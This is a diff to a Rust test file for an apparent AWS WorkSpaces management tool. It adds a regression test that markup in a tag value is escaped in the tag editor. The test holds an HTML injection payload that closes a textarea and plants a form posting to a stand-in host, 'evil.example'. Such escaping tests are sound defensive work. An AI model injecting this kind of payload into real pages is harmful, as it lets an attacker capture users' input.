@@ -484,7 +484,7 @@ async fn metrics_need_their_token_and_count_requests_by_route_and_sync_age() {
     );
     assert!(!text.contains("ws-nonexistent"));
     assert!(
-        text.contains("fleetdesk_sync_age_seconds{region=\"eu-west-1\",resource=\"workspaces\"}")
+        text.contains("fleetdesk_sync_age_seconds{account=\"\",region=\"eu-west-1\",resource=\"workspaces\"}")
     );
 
     let mut without = state.clone();
@@ -536,4 +536,43 @@ async fn the_audit_csv_streams_every_entry_newest_first_past_one_batch() {
         lines[1]
     );
     assert!(lines[1200].contains("entry 0"));
+}
+
+/// Issue 20, finding 3: a tag value with markup (as another tool could set it) is shown
+/// as text in the tag editor's `<textarea>`, never as markup of the page.
+#[tokio::test]
+async fn markup_in_a_tag_value_stays_text_in_the_tag_editor() {
+    use app::server::aws::{Change, TagChange};
+    let (_dir, state) = crate::auth::with_users().await;
+    let id: String = sqlx::query_scalar("SELECT id FROM workspaces ORDER BY id LIMIT 1")
+        .fetch_one(&state.pool)
+        .await
+        .expect("a WorkSpace");
+    let region: String = sqlx::query_scalar("SELECT region FROM workspaces WHERE id = ?")
+        .bind(&id)
+        .fetch_one(&state.pool)
+        .await
+        .expect("its Region");
+    let api = state
+        .regions
+        .iter()
+        .find(|api| api.region() == region)
+        .expect("its client");
+    let markup = "</textarea><form action=//evil.example><button>Go";
+    api.apply(&Change::Tags(TagChange::Create {
+        resource_id: id.clone(),
+        tags: vec![app::model::Tag {
+            key: "note".into(),
+            value: markup.into(),
+        }],
+    }))
+    .await
+    .expect("the emulator takes any tag");
+    let cookie = crate::auth::cookie_for(&state, app::model::Role::Helpdesk).await;
+    let (status, body) =
+        crate::auth::status_and_body(&state, crate::auth::get(&format!("/tags/{id}"), Some(&cookie)))
+            .await;
+    assert_eq!(status, StatusCode::OK);
+    assert!(body.contains("note=&lt;/textarea&gt;&lt;form"), "escaped in the editor");
+    assert!(!body.contains("<form action=//evil.example>"), "no injected form");
 }
